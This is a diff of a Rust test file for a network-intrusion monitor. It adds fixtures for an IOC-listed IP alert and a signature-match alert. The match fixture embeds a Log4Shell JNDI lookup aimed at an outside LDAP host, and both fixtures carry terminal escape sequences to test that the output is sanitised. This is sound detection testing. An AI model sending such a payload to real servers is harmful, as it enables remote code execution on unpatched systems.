@@ -1,9 +1,13 @@
 //! How every rule is told: text and JSON, of both versions of IP, in all states.
 
 use core::net::IpAddr;
+use std::sync::Arc;
+
+use netwatch_common::Proto;
 
 use super::*;
-use crate::analysis::Digest;
+use crate::analysis::detail::{Hosts, Listed, Listing, Matched, Signature};
+use crate::analysis::{Detail, Digest};
 
 fn ip(text: &str) -> IpAddr {
     text.parse().unwrap()
@@ -24,6 +28,50 @@ fn evidence(class: Class, count: u64) -> [u64; Class::COUNT] {
     let mut evidence = [0; Class::COUNT];
     evidence[class as usize] = count;
     evidence
+}
+
+fn listed() -> Listed {
+    let listing = Listing {
+        feed: "example-drop".into(),
+        entry: "203.0.113.0/24".into(),
+        comment: "EX4711\u{1b}[2J".into(),
+        tags: vec!["botnet".into()],
+    };
+    Listed {
+        listing: Arc::new(listing),
+        inbound: 2,
+        outbound: 3,
+        bytes: 412,
+        begun: 1,
+        contacted: true,
+        hosts: Hosts::one(ip("192.0.2.5")),
+        service: Some((Proto::Tcp, 443)),
+        first_ns: 1,
+        last_ns: 2 * SECOND,
+        ..Listed::default()
+    }
+}
+
+fn matched() -> Matched {
+    let signature = Signature {
+        id: "log4shell.jndi".into(),
+        name: "Log4Shell lookup in an HTTP request".into(),
+        reference: "https://nvd.nist.gov/vuln/detail/CVE-2021-44228".into(),
+        attack_id: "T1190".into(),
+    };
+    Matched {
+        signature: Arc::new(signature),
+        proto: Proto::Tcp,
+        source_port: 40000,
+        dest: ip("192.0.2.5"),
+        dest_port: 8080,
+        outgoing: false,
+        excerpt: (*b"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\r\n\x1b[2J\"").into(),
+        dests: Hosts::one(ip("192.0.2.5")),
+        flows: 1,
+        first_ns: 1,
+        last_ns: 1,
+    }
 }
 
 /// What an incident of a rule looks like when it opens.
@@ -152,10 +200,19 @@ pub(super) fn example(rule: RuleId) -> Transition {
             evidence: evidence(Class::Known, 9),
             ..base
         },
-        RuleId::IocIp => Transition { observed: 5, proto: None, evidence: evidence(Class::Known, 5), ..base },
-        RuleId::PayloadMatch => {
-            Transition { observed: 1, proto: None, evidence: evidence(Class::Known, 5), ..base }
-        }
+        RuleId::IocIp => Transition {
+            observed: 5,
+            proto: None,
+            severity: Severity::High,
+            detail: Some(Arc::new(Detail::Listed(listed()))),
+            ..base
+        },
+        RuleId::PayloadMatch => Transition {
+            observed: 1,
+            proto: None,
+            detail: Some(Arc::new(Detail::Matched(matched()))),
+            ..base
+        },
         RuleId::Degraded => Transition {
             observed: 12,
             proto: None,
@@ -223,7 +280,7 @@ fn hostile_names_stay_within_their_line() {
             let line = render(&t, format, false);
             let (line, end) = line.split_at(line.len() - 1);
             assert!(end == "\n" && !line.contains(|c: char| c.is_control() && c != '\u{9b}'), "{line}");
-            assert!(format == Format::Json || line.contains(" on ?[2J?\"?? (threshold"), "{line}");
+            assert!(format == Format::Json || line.contains(" on ?[2J?\"??"), "{line}");
         }
     }
 }
